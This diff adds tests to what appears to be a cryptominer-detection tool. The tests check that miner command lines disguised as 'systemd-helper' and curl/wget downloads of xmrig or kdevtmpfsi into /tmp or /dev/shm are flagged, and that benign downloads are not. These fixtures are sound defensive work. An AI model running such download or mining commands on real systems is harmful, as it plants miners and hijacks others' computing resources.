@@ -78,6 +78,54 @@ test('a wallet beside pool options is strong; a wallet alone is medium', () => {
   assert.deepEqual(kinds(alone), ['process:wallet/medium']);
 });
 
+test('a wallet is a login only beside real pool options: -o with a file, not a host:port, is no pool', () => {
+  for (const cmd of [
+    `/usr/bin/report -o out.json --note ${XMR}`,
+    `ssh -o StrictHostKeyChecking=no backup@host echo ${XMR}`,
+    `gcc -o wallet-${XMR} main.c`,
+  ])
+    assert.deepEqual(kinds(run({ pid: 1, name: 'x', executable: '/usr/bin/x', command_line: cmd })), [
+      'process:wallet/medium',
+    ]);
+  for (const cmd of [
+    `/usr/bin/systemd-helper -o pool.example:443 -u ${XMR}`,
+    `/usr/bin/systemd-helper --url=stratum+ssl://pool.example:443 ${XMR}`,
+    `/usr/bin/systemd-helper -opool.example:443 --user ${XMR} -p x`,
+    `/usr/bin/systemd-helper --donate-level 1 ${XMR}`,
+  ])
+    assert.deepEqual(
+      kinds(run({ pid: 1, name: 'systemd-helper', executable: '/usr/bin/systemd-helper', command_line: cmd })),
+      ['process:wallet/strong'],
+      cmd,
+    );
+});
+
+test('a download whose output file or URL names a known miner is miner evidence', () => {
+  for (const cmd of [
+    'curl -sL -o xmrig http://203.0.113.9/a',
+    'wget -q -O /tmp/xmrig http://203.0.113.9/b',
+    'wget --output-document=/dev/shm/kdevtmpfsi http://203.0.113.9/c',
+    'curl -sLO https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz',
+    'sh -c "cd /tmp; wget http://203.0.113.9/xmrig.zip; unzip xmrig.zip"',
+    'curl http://203.0.113.9/files/xmrig',
+  ]) {
+    const s = run({ pid: 5, name: 'curl', executable: '/usr/bin/curl', command_line: cmd });
+    assert.deepEqual(kinds(s), ['process:miner-download/strong'], cmd);
+    assert.equal(s[0].kind, 'miner-process');
+    assert.match(s[0].explanation, /downloads \S*(?:xmrig|kdevtmpfsi)\S*, named as a known miner \(intel miner-names/);
+  }
+  const args = run({ pid: 5, name: 'wget', executable: '/usr/bin/wget', args: ['wget', '-O', 'xmrig', 'http://x/y'] });
+  assert.deepEqual(kinds(args), ['process:miner-download/strong']);
+  for (const cmd of [
+    'curl -o out.tar.gz https://example.com/out.tar.gz',
+    'wget https://example.com/releases/app-1.2.0-linux-x64.tar.gz',
+    'curl -s -o /dev/null https://example.com/xmrig-status',
+    'git clone https://github.com/xmrig/xmrig',
+    'cp /srv/mirror/xmrig.tar.gz /tmp/',
+  ])
+    assert.deepEqual(run({ pid: 5, name: 'x', executable: '/usr/bin/x', command_line: cmd }), [], cmd);
+});
+
 test('args are read when the source has no command line', () => {
   const s = run({ pid: 1, name: 'app', executable: '/opt/x/app', args: ['/opt/x/app', '--user', XMR, '-o', 'h:1'] });
   assert.deepEqual(kinds(s), ['process:wallet/strong']);
